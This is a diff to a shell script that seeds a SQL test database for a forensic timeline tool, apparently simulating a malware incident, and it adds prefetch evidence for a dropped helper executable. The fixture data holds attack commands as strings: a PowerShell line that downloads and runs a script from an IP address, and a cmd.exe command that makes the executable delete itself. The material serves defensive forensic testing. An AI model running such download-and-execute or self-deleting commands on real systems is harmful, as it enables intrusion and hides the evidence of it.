@@ -48,7 +48,8 @@ INSERT INTO source (id, parent_id, kind, path, locator, size, md5, sha1, sha256,
  (4, 2, 'evtx', '/Windows/System32/winevt/Logs/Security.evtx', 'MFT 302-1', 69632, 'cc', 'dd', '2e7d2c03a9507ae265ecf5b5356885a53393a2029d241394997265a1a25aefc6', 'partial', 'evtx', '0.1.0', $NOW, '2 records could not be parsed'),
  (5, 2, 'evtx', '/Windows/System32/winevt/Logs/Microsoft-Windows-PowerShell%4Operational.evtx', 'MFT 303-1', 69632, 'ee', 'ff', '18ac3e7343f016890c510e93f935261169d9e3f565436429830faf0934f4f8e4', 'ok', 'evtx', '0.1.0', $NOW, NULL),
  (6, 2, 'usnjrnl', '/\$Extend/\$UsnJrnl:\$J', 'MFT 38-1', 4096, NULL, NULL, '3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea', 'ok', 'usnjrnl', '0.1.0', $NOW, NULL),
- (7, NULL, 'ioc', '/cases/threat-report.txt', NULL, 1200, NULL, NULL, '252f10c83610ebca1a059c0bae8255eba2f95be4d1d7bcfa89d7248a82d9f111', 'partial', 'ioc-text', '0.1.0', $NOW, '3 placeholder hashes rejected');
+ (7, NULL, 'ioc', '/cases/threat-report.txt', NULL, 1200, NULL, NULL, '252f10c83610ebca1a059c0bae8255eba2f95be4d1d7bcfa89d7248a82d9f111', 'partial', 'ioc-text', '0.1.0', $NOW, '3 placeholder hashes rejected'),
+ (8, 2, 'prefetch', '/Windows/Prefetch/QEUPDATE_HELPER.EXE-1A2B3C4D.pf', 'MFT 1300-1', 2048, 'a1', 'b2', '7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730', 'ok', 'prefetch', '0.1.0', $NOW, NULL);
 
 INSERT INTO warning (source_id, offset, parser, message) VALUES
  (4, 20480, 'evtx', 'record 17: unable to retrieve record values; skipped'),
@@ -68,7 +69,8 @@ INSERT INTO record (id, source_id, type, locator, offset, flags, summary) VALUES
  (27, 3, 'evtx', 'record 4717', 72704, 0, 'Sysmon 1: process created cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q qeupdate_helper.exe'),
  (28, 6, 'usn', 'USN 0x1a2b', 2048, 0, 'qeupdate_helper.exe: FILE_DELETE|CLOSE'),
  (29, 4, 'evtx', 'record 120', 12288, 0, 'Security 4688: powershell.exe Get-Service'),
- (30, 3, 'evtx', 'record 4500', 40960, 0, 'Sysmon 1: process created QEUpdate.exe (benign run)');
+ (30, 3, 'evtx', 'record 4500', 40960, 0, 'Sysmon 1: process created QEUpdate.exe (benign run)'),
+ (31, 8, 'prefetch', 'QEUPDATE_HELPER.EXE-1A2B3C4D.pf', 0, 0, 'Prefetch: QEUPDATE_HELPER.EXE ran 1 time');
 
 INSERT INTO event (record_id, ts, ts_desc) VALUES
  (10, $TOLD, 'SI created'), (10, $TOLD, 'FN created'), (10, $TB, 'SI accessed'),
@@ -77,7 +79,11 @@ INSERT INTO event (record_id, ts, ts_desc) VALUES
  (20, $T0, 'event created'), (21, $T1, 'event created'), (22, $T2, 'event created'),
  (23, $T3, 'event created'), (24, $T4, 'event created'), (25, $T5, 'event created'),
  (26, $T6, 'event created'), (27, $T7, 'event created'), (28, $T8, 'USN change'),
- (29, $TA, 'event created'), (30, $TB, 'event created');
+ (29, $TA, 'event created'), (30, $TB, 'event created'), (31, $T3, 'program run');
+
+INSERT INTO prefetch (record_id, executable, prefetch_hash, format_version, run_count, last_run, run_times, volumes, files) VALUES
+ (31, 'QEUPDATE_HELPER.EXE', '1A2B3C4D', 30, 1, $T3, '[$T3]', '[{"device":"\\\\VOLUME{01d9}","serial":"0x5a1e"}]',
+  '["\\\\VOLUME{01d9}\\\\USERS\\\\JDOE\\\\APPDATA\\\\LOCAL\\\\TEMP\\\\QEUPD\\\\QEUPDATE_HELPER.EXE"]');
 
 INSERT INTO file (record_id, fs_type, path, name, inode, seq, parent_inode, parent_seq, type, size, allocated,
   si_crtime, si_mtime, si_atime, si_ctime, fn_crtime, fn_mtime, fn_atime, fn_ctime, md5, sha1, sha256, content, zone_id, zone_host_url) VALUES
@@ -151,7 +157,7 @@ IEX (New-Object Net.WebClient).DownloadString(''http://176.53.118.131/logo.png''
 
 INSERT INTO finding_evidence (finding_id, record_id, role) VALUES
  (1, 20, 'updater'), (1, 21, 'connection'), (1, 22, 'file write'), (1, 11, 'payload'),
- (2, 23, 'process'), (3, 24, 'process'), (3, 25, 'script'), (3, 26, 'connection'),
+ (2, 23, 'process'), (2, 31, 'prefetch'), (3, 24, 'process'), (3, 25, 'script'), (3, 26, 'connection'),
  (4, 27, 'deleting command'), (4, 28, 'journal'), (4, 11, 'deleted file'), (5, 29, 'process');
 
 INSERT INTO process (id, image, pid, process_guid, command_line, user_name, start_ts, end_ts, parent_id, parent_image, parent_pid, start_record_id, origin) VALUES
@@ -175,7 +181,7 @@ INSERT INTO narrative (id, chain_id, seq, ts, finding_id, text) VALUES
  (6, 1, 6, $T6, 3, 'PowerShell connected to 176.53.118.131 on port 80.'),
  (7, 1, 7, $T7, 4, 'qeupdate_helper.exe deleted itself through cmd.exe; its MFT entry and content survive.');
 INSERT INTO narrative_evidence (narrative_id, record_id) VALUES
- (1, 20), (2, 21), (3, 22), (3, 11), (4, 23), (5, 24), (5, 25), (6, 26), (7, 27), (7, 28), (7, 11);
+ (1, 20), (2, 21), (3, 22), (3, 11), (4, 23), (4, 31), (5, 24), (5, 25), (6, 26), (7, 27), (7, 28), (7, 11);
 COMMIT;
 SQL
 }
